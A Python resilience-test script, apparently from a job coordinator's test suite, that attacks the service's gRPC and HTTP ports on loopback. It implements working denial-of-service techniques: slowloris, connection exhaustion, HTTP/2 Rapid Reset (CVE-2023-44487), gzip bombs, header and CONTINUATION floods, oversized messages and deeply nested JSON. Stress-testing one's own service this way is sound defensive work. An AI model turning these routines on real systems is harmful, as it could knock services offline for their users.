"""Attacks the ports of a coordinator until it is told to stop (SIGTERM), then says what became of it.

attacker.py ATTACK GRPC_PORT HTTP_PORT   (the source address is FROM, 127.0.0.2)

Writes "under way" once the attack is ("under way until enough" where it has a number to reach, and "enough" then), and one line at the end. Speaks HTTP/1.1 and HTTP/2 by hand: what no client would send.
Loopback is no line that could be full, so the attacker keeps to MBITS (200) a second, and to CONNECTS (1,000) connections a second.
"""

import collections
import errno
import gzip
import os
import resource
import selectors
import signal
import socket
import struct
import sys
import time

SOURCE = os.environ.get("FROM", "127.0.0.2")
BYTES_PER_S = int(os.environ.get("MBITS", 200)) * 125000
CONNECTS_PER_S = int(os.environ.get("CONNECTS", 1000))
TINY_MESSAGES = int(os.environ.get("MESSAGES", 1000000))
MEGABYTE = 1 << 20
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4

counts = collections.Counter()
stopped = False
under_way = False


def stop(*_):
    global stopped
    stopped = True


class Pace:
    """Lets so much through a second."""

    def __init__(self, per_second):
        self.per_second, self.free_at = per_second, 0.0

    def is_due(self):
        return time.monotonic() >= self.free_at

    def spend(self, amount):
        self.free_at = max(self.free_at, time.monotonic()) + amount / self.per_second

    def wait(self, amount):
        late = self.free_at - time.monotonic()
        if late > 0:
            time.sleep(late)
        self.spend(amount)


line, connects = Pace(BYTES_PER_S), Pace(CONNECTS_PER_S)


def send_all(connection, content):
    """As fast as the line allows."""
    for at in range(0, len(content), 65536):
        part = content[at : at + 65536]
        line.wait(len(part))
        connection.sendall(part)


def say_under_way(more=""):
    global under_way
    if not under_way:
        under_way = True
        print("under way" + more, flush=True)


def connect(port):
    """A connection, blocking; None where the coordinator does not even accept it."""
    connects.wait(1)
    try:
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        connection.bind((SOURCE, 0))
        connection.settimeout(5)
        connection.connect(("127.0.0.1", port))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        counts["connections"] += 1
        return connection
    except OSError:
        counts["not connected"] += 1
        time.sleep(0.01)
        return None


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string of HPACK, not packed."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out) + bytes([rest]) + value


def header(name, value):
    return b"\0" + text(name) + text(value)


def call(method, *more):
    block = b"\x83\x86\x04" + text("/" + method) + b"\x01" + text("localhost")
    block += header("content-type", "application/grpc") + header("te", "trailers")
    return block + b"".join(more)


def message(content, packed=False):
    return struct.pack(">BI", packed, len(content)) + content


def field(number, content):
    """A protobuf field of bytes."""
    return bytes([number << 3 | 2]) + varint(len(content)) + content


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
LIST = "poneglyph.v1.JobService/ListJobs"
SUBMIT = "poneglyph.v1.JobService/Submit"
CONNECT = "poneglyph.v1.WorkerService/Connect"


class Http2:
    """A connection whose windows are kept, as the coordinator hangs up otherwise."""

    def __init__(self, port):
        self.socket = connect(port)
        self.buffer = b""
        self.window, self.stream_window, self.initial = 65535, {}, 65535
        self.ended = self.socket is None
        self.next = 1
        if not self.ended:
            self.send(PREFACE)

    def send(self, content):
        try:
            self.socket.settimeout(5)
            send_all(self.socket, content)
        except OSError:
            self.end()

    def end(self):
        if not self.ended:
            counts["connections ended by the coordinator"] += 1
        self.ended = True

    def read(self, wait):
        """Takes in what has come."""
        try:
            self.socket.settimeout(wait or 0.000001)
            got = self.socket.recv(MEGABYTE)
            if not got:
                return self.end()
            self.buffer += got
        except (socket.timeout, BlockingIOError):
            pass
        except OSError:
            return self.end()
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                break
            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
            self.take(kind, flags, stream, self.buffer[9 : 9 + size])
            self.buffer = self.buffer[9 + size :]

    def take(self, kind, flags, stream, payload):
        if kind == DATA and payload:
            self.send(frame(WINDOW, 0, 0, struct.pack(">I", len(payload))))
            self.send(frame(WINDOW, 0, stream, struct.pack(">I", len(payload))))
        if kind == GOAWAY:
            self.end()
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at : at + 6])
                if key == 4:
                    for each in self.stream_window:
                        self.stream_window[each] += value - self.initial
                    self.initial = value
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW:
            more = struct.unpack(">I", payload)[0]
            if stream == 0:
                self.window += more
            else:
                self.stream_window[stream] = self.stream_window.get(stream, self.initial) + more
        elif kind == RST or kind == HEADERS and flags & END_STREAM:
            self.stream_window.pop(stream, None)
            counts["calls ended by the coordinator"] += 1

    def begin(self, block, flags=END_HEADERS):
        stream, self.next = self.next, self.next + 2
        self.stream_window[stream] = self.initial
        self.send(frame(HEADERS, flags, stream, block))
        return stream

    def room(self, stream):
        return max(0, min(self.window, self.stream_window.get(stream, 0), 16384))

    def data(self, stream, content, flags=0):
        self.window -= len(content)
        self.stream_window[stream] -= len(content)
        self.send(frame(DATA, flags, stream, content))

    def whole(self, stream, content):
        """Sends all of it as the windows let it; false where the stream is over before."""
        at = 0
        while at < len(content) and not self.ended and not stopped:
            room = self.room(stream)
            if stream not in self.stream_window:
                return False
            if room == 0:
                self.read(0.2)
                continue
            part = content[at : at + room]
            at += len(part)
            self.data(stream, part, END_STREAM if at == len(content) else 0)
        return at == len(content)


def many(port, most, first, drip=None):
    """Holds so many connections open, each having said `first`; each says `drip` once a second; those that end begin anew."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    most = min(most, hard - 100)
    events, held, dripped = selectors.DefaultSelector(), set(), time.monotonic()

    def open_one():
        connection = socket.socket()
        connection.bind((SOURCE, 0))
        connection.setblocking(False)
        code = connection.connect_ex(("127.0.0.1", port))
        if code not in (0, errno.EINPROGRESS):
            connection.close()
            counts["not connected"] += 1
            return
        held.add(connection)
        events.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def close_one(connection):
        counts["connections ended by the coordinator"] += 1
        events.unregister(connection)
        held.discard(connection)
        connection.close()

    while not stopped:
        for _ in range(min(200, most - len(held))):
            if under_way and not connects.is_due():
                break
            connects.spend(1)
            open_one()
        for key, mask in events.select(0.1):
            connection = key.fileobj
            try:
                if mask & selectors.EVENT_WRITE:
                    counts["connections"] += 1
                    connection.send(first) if first else None
                    events.modify(connection, selectors.EVENT_READ)
                if mask & selectors.EVENT_READ and not connection.recv(65536):
                    close_one(connection)
            except BlockingIOError:
                pass
            except OSError:
                close_one(connection)
        counts["held at one time, at most"] = max(counts["held at one time, at most"], len(held))
        if len(held) >= most or counts["connections"] >= most:
            say_under_way()
        if drip and time.monotonic() - dripped > 1:
            dripped = time.monotonic()
            for connection in list(held):
                try:
                    connection.send(drip)
                except BlockingIOError:
                    pass
                except OSError:
                    close_one(connection)


def idle_connections(grpc, _):
    many(grpc, int(os.environ.get("CONNECTIONS", 10000)), b"")


def half_open(grpc, _):
    many(grpc, 4000, PREFACE[:20])


def slow_headers(_, http):
    many(http, 2000, b"GET /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"a")


def slow_bodies(_, http):
    many(http, 2000, b"POST /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n{", b" ")


def churn(grpc, _):
    while not stopped:
        connection = connect(grpc)
        say_under_way()
        if connection:
            connection.close()


def tiny_messages(grpc, _):
    """Workers that talk without end, every other one about attempts that never were, the others about nothing at all."""
    attempt = field(1, b"nothing") + b"\x20\x01\x28\x07"
    tiny = [message(b""), message(field(2, attempt))]
    per_chunk = [16384 // len(each) for each in tiny]
    chunks = [each * many for each, many in zip(tiny, per_chunk)]
    workers = []
    enough = False
    while not stopped:
        while len(workers) < 8:
            connection = Http2(grpc)
            hello = field(1, b"chatty-%d" % counts["workers"]) + b"\x10\x01\x18\x01"
            counts["workers"] += 1
            stream = connection.begin(call(CONNECT))
            connection.data(stream, message(field(1, hello)))
            workers.append((connection, stream, counts["workers"] % 2))
        sent = False
        for connection, stream, kind in workers:
            connection.read(0)
            if connection.room(stream) >= len(chunks[kind]):
                connection.data(stream, chunks[kind])
                counts["messages"] += per_chunk[kind]
                sent = True
        workers = [each for each in workers if not each[0].ended and each[1] in each[0].stream_window]
        sent or time.sleep(0.01)
        say_under_way(" until enough")
        if not enough and counts["messages"] >= TINY_MESSAGES:
            enough = True
            print("enough", flush=True)


def tiny_calls(grpc, _):
    """Calls without content, as fast as they go."""
    block = call(LIST)
    while not stopped:
        connection = Http2(grpc)
        while not stopped and not connection.ended:
            open_calls = len(connection.stream_window)
            for _ in range(max(0, min(50, 500 - open_calls))):
                stream = connection.begin(block)
                connection.data(stream, message(b""), END_STREAM)
                counts["calls"] += 1
            connection.read(0.01 if open_calls >= 500 else 0)
            say_under_way()


def oversized(grpc, http):
    """Messages that say they are 2 GB, messages of 20 MB, and bodies of 20 MB."""
    large = message(b"\x0a" + varint(20 * MEGABYTE) + bytes(20 * MEGABYTE))
    while not stopped:
        connection = Http2(grpc)
        if connection.ended:
            continue
        connection.read(0.1)
        stream = connection.begin(call(SUBMIT))
        connection.data(stream, struct.pack(">BI", 0, (1 << 31) - 1) + bytes(1000))
        connection.whole(connection.begin(call(SUBMIT)), large)
        connection.read(0.2)
        counts["messages"] += 2
        connection.socket.close()
        body = connect(http)
        if body:
            try:
                send_all(body, b"POST /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % (20 * MEGABYTE))
                send_all(body, bytes(20 * MEGABYTE))
                counts["bodies answered 413"] += b" 413 " in body.recv(1000)
            except OSError:
                counts["bodies cut off"] += 1
            body.close()
        say_under_way()


def rapid_reset(grpc, _):
    """Calls that are taken back at once (CVE-2023-44487)."""
    block = call(LIST)
    while not stopped:
        connection = Http2(grpc)
        while not stopped and not connection.ended:
            batch = b""
            for _ in range(100):
                stream, connection.next = connection.next, connection.next + 2
                batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST, 0, stream, b"\0\0\0\x08")
            counts["calls taken back"] += 100
            connection.send(batch)
            connection.read(0)
            say_under_way()


def bombs(grpc, http):
    """15 MiB of zeros as 15 KB, over both."""
    bomb = message(gzip.compress(bytes(15 * MEGABYTE)), True)
    body = gzip.compress(bytes(15 * MEGABYTE))
    while not stopped:
        connection = Http2(grpc)
        connection.ended or connection.read(0.1)
        for _ in range(50):
            if connection.ended or stopped:
                break
            connection.whole(connection.begin(call(SUBMIT, header("grpc-encoding", "gzip"))), bomb)
            connection.read(0.001)
            counts["bombs"] += 1
        over_http = connect(http)
        if over_http:
            try:
                send_all(
                    over_http,
                    b"POST /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
                    + body,
                )
                counts["bombs answered 415"] += b" 415 " in over_http.recv(1000)
            except OSError:
                counts["bombs cut off"] += 1
            over_http.close()
        say_under_way()


def header_flood(grpc, http):
    """Headers without end, over both."""
    more = frame(CONTINUATION, 0, 1, header("x-flood", "a" * 8000))
    lines = b"X-Flood: a\r\n" * 1000
    while not stopped:
        connection = Http2(grpc)
        if not connection.ended:
            connection.send(frame(HEADERS, 0, 1, call(LIST)))
            for _ in range(1000):
                connection.send(more)
                counts["header frames"] += 1
                connection.read(0)
                if connection.ended or stopped:
                    break
        flood = connect(http)
        if flood:
            try:
                send_all(flood, b"GET /health HTTP/1.1\r\nHost: localhost\r\n")
                for _ in range(1000):
                    send_all(flood, lines)
                    counts["header lines"] += 1000
            except OSError:
                counts["floods cut off"] += 1
            flood.close()
        say_under_way()


def deep_json(grpc, http):
    """Definitions and bodies of a million brackets."""
    deep = b"[" * 1000000
    definition = message(field(2, b'{"name": ' + deep))
    while not stopped:
        connection = Http2(grpc)
        if not connection.ended:
            connection.read(0.1)
            connection.whole(connection.begin(call(SUBMIT)), definition)
            connection.read(0.2)
            counts["definitions"] += 1
            connection.socket.close()
        body = connect(http)
        if body:
            try:
                send_all(body, b"POST /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % len(deep) + deep)
                counts["bodies answered 400"] += b" 400 " in body.recv(1000)
            except OSError:
                counts["bodies cut off"] += 1
            body.close()
        say_under_way()


ATTACKS = {
    "idle-connections": idle_connections,
    "half-open": half_open,
    "slow-headers": slow_headers,
    "slow-bodies": slow_bodies,
    "connection-churn": churn,
    "tiny-messages": tiny_messages,
    "tiny-calls": tiny_calls,
    "oversized": oversized,
    "rapid-reset": rapid_reset,
    "gzip-bombs": bombs,
    "header-flood": header_flood,
    "deep-json": deep_json,
}


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, stop)
    began = time.monotonic()
    ATTACKS[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]))
    counts["seconds"] = round(time.monotonic() - began)
    print(", ".join(f"{name} {number:,}" for name, number in counts.items()), flush=True)
